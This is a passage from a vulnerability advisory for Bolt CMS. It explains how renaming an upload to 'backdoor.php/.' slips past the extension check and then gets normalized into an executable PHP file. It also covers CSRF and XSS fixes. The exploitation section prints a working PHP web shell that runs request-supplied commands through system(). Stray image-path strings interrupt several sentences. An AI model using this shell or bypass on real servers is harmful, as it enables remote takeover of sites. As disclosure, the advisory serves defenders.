'backdoor.php.' The dot at the end makes the pathinfo() function returnnull. So the file gets accepted. But when you open the file in the browser,
it does not execute it as php, but just as a plain text file.
The next step is to get the last dot removed.
Analyzing the rename() function defined in
vendor/bolt/filesystem/src/Filesystem.php:300, the function calls another
function normalizePath($newPath) with the new path as a parameter.
----[ code segment ]----
public function rename($path, $newPath)
$path = $this->normalizePath($path);
$newPath = $this->normalizePath($newPath);
$this->doRename($path, $newPath);----[ code segment ]----
The normalizePath() function is defined in the same file in line 823, acts
as a wrapper to Flysystem's normalizePath() function. It is being used to
fetch the 'real' path of files. This is used to validate the file location
etc. For example,
./somedir/../text.txt == ./text.txt == text.txt
So when './text.txt' is passed to this function, it returns 'text.txt'
So, to remove the last dot from our file name 'backdoor.php.', I changed it
to 'backdoor.php/.' Passing it to normalizePath() it returns 'backdoor.php',
which is exactly what is needed.
So the data flow looks like, first the value 'backdoor.php/.' is passed to
validateFileExtension() which returns NULL because there is no text after
that last dot. So, the extesion filter is bypassed. Next, the same value is
passed to normalizePath() which removes the last '/.' because it looks like
it's a path to the current directory. At the end, the file gets renamed to
--[ 04.2 - Exploitation
To exploit this vulnerability, an attacker with permission to upload files
1. Create a php file with code that gives a backdoor.
For example,
<?php if(isset($_REQUEST['cmd'])){ echo "<pre>"; $cmd = ($_REQUEST['cmd']); system($cmd); echo "</pre>"; die; }?>
2. Rename the file with a dot at the end.For example,
3. Upload the file and renameit to 'backdoor.php/.'
You will notice that it will get renamed to 'backdoor.php'
--[ 04.3 - References
--[ 05 - Solution
1. Validate the CSRF token before generating preview in preview() function
- vendor/bolt/bolt/src/Controller/Frontend.php:200
2. Validate the user inputs to the preview generation endpoint before
displaying them in preview() function -
3. Use the variable that has the encoded value to display user information.
i.e., use $userEntity instead of $user in -
4. Validate the user inputs before renaming the files in renameFile()function in - /src/Controller/Async/FilesystemManager.php:335
5. Do not allow the upload of JS and HTML files. If that is absolutely
required, then add it as a separate permission that the admin can allocate
to certain roles and not everyone who has access to file upload.
6. Enable CKEditor4's option to disallow javascript URLs. For more
information, check
7. Change the flow of data while renaming. First pass the data through
normalizePath() data and then through validateFileExtension(). That way,
the validation function validates the final value.
--[ 06- Contact
Name : Sivanesh AshokTwitter: @sivaneshashok